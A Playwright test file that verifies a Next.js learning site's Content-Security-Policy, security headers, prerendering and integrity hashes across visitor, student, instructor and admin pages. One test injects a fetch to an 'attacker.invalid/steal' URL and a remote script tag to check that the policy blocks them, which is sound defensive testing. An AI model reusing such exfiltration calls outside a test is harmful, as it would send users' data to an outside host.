import { execFileSync } from "node:child_process";
import { createHash, randomBytes } from "node:crypto";
import fs from "node:fs";
import path from "node:path";
import { expect, test, type BrowserContext, type Page } from "@playwright/test";
import { enrol, lessonIds, signUpStudent } from "./lesson-fixtures";
import { query, signInByApi } from "./support";

// Issue 15, headers: the Content-Security-Policy (lib/http/content-security-policy.mjs, set by next.config.mjs)
// lets every screen work (Next's inline payload scripts, the HLS player's blob: media and worker, the demo
// checkout, the admin pages) while refusing what the app never does, and the public pages stay static.

type Violation = { directive: string; blocked: string; page: string };

/** Every CSP violation and uncaught error in this context's pages, from the first script of each page on. */
async function watch(context: BrowserContext) {
  const violations: Violation[] = [];
  const errors: string[] = [];
  await context.exposeBinding("__reportCspViolation", ({ page }, v: Omit<Violation, "page">) => {
    violations.push({ ...v, page: page.url() });
  });
  await context.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (e) => {
      (window as unknown as { __reportCspViolation: (v: object) => void }).__reportCspViolation({ directive: e.effectiveDirective, blocked: e.blockedURI });
    });
  });
  const follow = (page: Page) => {
    page.on("pageerror", (error) => errors.push(`${page.url()}: ${error.message}`));
    // Chromium also logs refusals on the console, some (a worker's, a frame's) where no event reaches the page.
    page.on("console", (message) => {
      if (/Content Security Policy|Refused to/i.test(message.text())) errors.push(`${page.url()}: ${message.text()}`);
    });
  };
  context.pages().forEach(follow);
  context.on("page", follow);
  return {
    violations,
    errors,
    expectClean() {
      expect(violations, "CSP violations").toEqual([]);
      expect(errors, "page errors and CSP refusals").toEqual([]);
    },
  };
}

/** The page hydrated: Next's inline bootstrap ran (it defines self.__next_f) and React answers clicks. */
async function expectHydrated(page: Page) {
  await page.waitForLoadState("networkidle");
  expect(await page.evaluate(() => Array.isArray((self as unknown as { __next_f?: unknown[] }).__next_f))).toBe(true);
}

async function visit(page: Page, url: string) {
  const response = await page.goto(url);
  expect(response?.status(), url).toBeLessThan(400);
  await expectHydrated(page);
}

test("every response carries the policy: no framing, no plugins, no <base>, forms only to the site", async ({ request }) => {
  // A static page, a page behind proxy.ts (its redirect to sign-in), an API answer, a static file.
  for (const url of ["/", "/courses", "/es/courses", "/dashboard", "/api/health", "/robots.txt"]) {
    const response = await request.get(url, { maxRedirects: 0 });
    const headers = response.headers();
    const policy = headers["content-security-policy"] ?? "";
    expect(policy, url).toContain("frame-ancestors 'none'");
    expect(policy, url).toContain("object-src 'none'");
    expect(policy, url).toContain("base-uri 'self'");
    expect(policy, url).toContain("form-action 'self'");
    expect(policy, url).toContain("default-src 'self'");
    // The headers there before the policy are still sent.
    expect(headers["x-frame-options"], url).toBe("DENY");
    expect(headers["x-content-type-options"], url).toBe("nosniff");
    expect(headers["referrer-policy"], url).toBe("strict-origin-when-cross-origin");
    expect(headers["permissions-policy"], url).toBe("camera=(), microphone=(), geolocation=()");
    // The test server is plain http on 127.0.0.1: no HSTS, nothing upgraded.
    expect(headers["strict-transport-security"], url).toBeUndefined();
    expect(policy, url).not.toContain("upgrade-insecure-requests");
  }
});

test("the policy is enforced, and the watcher the other tests rely on sees each refusal", async ({ page, context }) => {
  const watcher = await watch(context);
  await page.goto("/courses");
  await page.evaluate(async () => {
    await fetch("https://attacker.invalid/steal").catch(() => {});
    const object = document.createElement("object");
    object.data = "/robots.txt";
    document.body.append(object);
    const script = document.createElement("script");
    script.src = "https://attacker.invalid/x.js";
    document.body.append(script);
  });
  await expect
    .poll(() => watcher.violations.map((v) => v.directive).sort())
    .toEqual(expect.arrayContaining(["connect-src", "object-src", "script-src-elem"]));
  expect(watcher.violations.find((v) => v.directive === "connect-src")?.blocked).toBe("https://attacker.invalid/steal");
});

test("the public pages stay prerendered: the build lists them as static or regenerated, and serves them from its cache", async ({ request }) => {
  const distDir = process.env.NEXT_DIST_DIR ?? ".next";
  const manifest = JSON.parse(fs.readFileSync(path.join(distDir, "prerender-manifest.json"), "utf8")) as {
    routes: Record<string, unknown>;
    dynamicRoutes: Record<string, { fallback: unknown }>;
  };
  for (const route of ["/en", "/es", "/en/courses", "/en/courses/new-testament", "/en/login", "/en/terms"]) {
    expect(Object.keys(manifest.routes), "prerendered pages").toContain(route);
  }
  // Course pages are generated on first visit and kept (ISR): a prerendered route, not one rendered per request.
  expect(Object.keys(manifest.dynamicRoutes)).toContain("/[locale]/course/[courseId]");

  // A page rendered per request (as a per-request nonce would force) is sent `private, no-store`.
  for (const url of ["/", "/courses", "/course/genesis", "/course/genesis"]) {
    const response = await request.get(url);
    expect(response.status(), url).toBe(200);
    expect(response.headers()["cache-control"], url).not.toMatch(/private|no-store/);
  }
  expect((await request.get("/course/genesis")).headers()["x-nextjs-cache"]).toMatch(/HIT|STALE/);
});

test("Next's bootstrap chunks carry their hashes (Subresource Integrity), and the hashes match what is served", async ({ request }) => {
  const html = await (await request.get("/courses")).text();
  const tags = [...html.matchAll(/<script[^>]*\ssrc="(\/_next\/static\/[^"]+)"[^>]*>/g)];
  const hashed = tags.flatMap(([tag, src]) => {
    const integrity = /\sintegrity="sha256-([A-Za-z0-9+/=]+)"/.exec(tag)?.[1];
    return integrity ? [{ src: src!, integrity }] : [];
  });
  // The Turbopack runtime and the polyfills are Next's own; the page's client-component chunks are preloaded
  // by React's Flight client, which passes no integrity (React 19.2), so they are not covered.
  expect(hashed.map((h) => h.src)).toEqual(expect.arrayContaining([expect.stringMatching(/\/turbopack-[^/]+\.js$/)]));
  expect(hashed.length).toBeGreaterThanOrEqual(3);
  for (const { src, integrity } of hashed) {
    const body = await (await request.get(src)).body();
    expect(createHash("sha256").update(body).digest("base64"), src).toBe(integrity);
  }
});

test("a visitor's pages run with no violation: home, catalogue, a course, sign-in, the translations screen", async ({ page, context }) => {
  test.setTimeout(90_000);
  const watcher = await watch(context);
  for (const url of ["/", "/courses", "/courses/new-testament", "/course/genesis", "/es/course/genesis", "/login", "/signup", "/translations"]) {
    await visit(page, url);
  }
  // A client-side navigation runs the next page's payload through the already running router.
  await page.goto("/courses");
  await page.locator('a[href^="/course/"]').first().click();
  await expect(page).toHaveURL(/\/course\/[^/]+$/);
  await expectHydrated(page);
  watcher.expectClean();
});

/** A video of `lessonId` with an HLS ladder of one rendition, written where the disk driver keeps files. */
function storeHlsVideo(lessonId: string) {
  const root = process.env.STORAGE_DISK_PATH;
  if (!root) throw new Error("STORAGE_DISK_PATH is not set: run the e2e tests with `npm test -- e2e`.");
  const name = randomBytes(12).toString("hex");
  const storageKey = `videos/${lessonId}/${name}.mp4`;
  const original = path.join(root, storageKey);
  const hls = path.join(root, `videos/${lessonId}/${name}/hls`);
  fs.mkdirSync(path.join(hls, "240p"), { recursive: true });
  const ffmpeg = process.env.FFMPEG_PATH ?? "ffmpeg";
  const source = ["-v", "error", "-y", "-f", "lavfi", "-i", "testsrc2=size=426x240:rate=25", "-f", "lavfi", "-i", "sine=frequency=440", "-t", "8"];
  const h264 = ["-c:v", "libx264", "-preset", "ultrafast", "-pix_fmt", "yuv420p", "-g", "50", "-c:a", "aac", "-shortest"];
  execFileSync(ffmpeg, [...source, ...h264, "-movflags", "+faststart", original]);
  execFileSync(ffmpeg, [...source, ...h264, "-f", "hls", "-hls_time", "4", "-hls_playlist_type", "vod", "-hls_segment_filename", path.join(hls, "240p/seg-%05d.ts"), path.join(hls, "240p/index.m3u8")]);
  fs.writeFileSync(
    path.join(hls, "master.m3u8"),
    '#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-STREAM-INF:BANDWIDTH=400000,RESOLUTION=426x240,CODECS="avc1.64001e,mp4a.40.2"\n240p/index.m3u8\n',
  );
  return { storageKey, hlsKey: `videos/${lessonId}/${name}/hls/master.m3u8`, size: fs.statSync(original).size, files: [original, path.dirname(hls)] };
}

test("a student's pages run with no violation: the HLS player plays, an assessment starts, the demo card pays", async ({ page, context }) => {
  test.setTimeout(90_000);
  const watcher = await watch(context);
  const userId = await signUpStudent(page.request);
  await enrol(userId, "nahum");
  const [lessonId] = await lessonIds("nahum");
  const title = `CSP check ${Date.now()}`;
  const stored = storeHlsVideo(lessonId!);
  const [video] = await query<{ id: string }>(
    `INSERT INTO videos (id, "lessonId", title, "storageKey", "contentType", "fileSize", duration, status, "probedAt", "processingProgress", "hlsKey", "order", "updatedAt")
     VALUES (gen_random_uuid()::text, $1, $2, $3, 'video/mp4', $4, 8, 'ready', now(), 100, $5, 99, now()) RETURNING id`,
    [lessonId, title, stored.storageKey, stored.size, stored.hlsKey],
  );
  try {
    await visit(page, `/course/nahum/lesson/${lessonId}`);
    const player = page.getByRole("region", { name: `Video player: ${title}` });
    await expect(player).toHaveAttribute("data-engine", "hls.js");
    await player.locator("video").evaluate((v: HTMLVideoElement) => (v.muted = true));
    await player.getByRole("button", { name: "Play" }).click();
    // hls.js fed the <video> through a blob: MediaSource, and it plays.
    await expect.poll(() => player.locator("video").evaluate((v: HTMLVideoElement) => v.currentTime), { timeout: 20_000 }).toBeGreaterThan(1);
    expect(await player.locator("video").evaluate((v: HTMLVideoElement) => v.currentSrc)).toMatch(/^blob:/);

    await visit(page, "/dashboard");
    await visit(page, "/certificates");

    const [assessment] = await query<{ id: string }>(
      `SELECT a.id FROM assessments a JOIN courses c ON c.id = a."courseId" WHERE c.slug = 'nahum' ORDER BY a."order" LIMIT 1`,
    );
    await visit(page, `/assessment/${assessment!.id}`);
    await page.getByRole("button", { name: "Start Assessment" }).click();
    await expect(page.getByTestId("assessment-position")).toHaveText(/^Question 1 of \d+$/);

    await visit(page, "/checkout/joel");
    await page.getByLabel("Card number").fill("4242 4242 4242 4242");
    await page.getByRole("button", { name: /^Pay \$/ }).click();
    await expect(page.getByText("Payment Successful!")).toBeVisible();
    await expect(page).toHaveURL(/\/dashboard$/, { timeout: 10_000 });
    await expectHydrated(page);
  } finally {
    await query(`DELETE FROM videos WHERE id = $1`, [video!.id]);
    for (const file of stored.files) fs.rmSync(file, { recursive: true, force: true });
  }
  watcher.expectClean();
});

test("the instructor's translations screen and the admin pages run with no violation", async ({ browser }) => {
  test.setTimeout(90_000);
  for (const [email, password, urls] of [
    ["instructor@example.com", "TeachTheWord1", ["/translations", "/pt/translations", "/dashboard"]],
    ["admin@example.com", "AdminTheWord1", ["/admin/users", "/admin/payments", "/es/admin/users", "/translations"]],
  ] as const) {
    const context = await browser.newContext();
    const watcher = await watch(context);
    const page = await context.newPage();
    await signInByApi(page, email, password);
    for (const url of urls) await visit(page, url);
    watcher.expectClean();
    await context.close();
  }
});
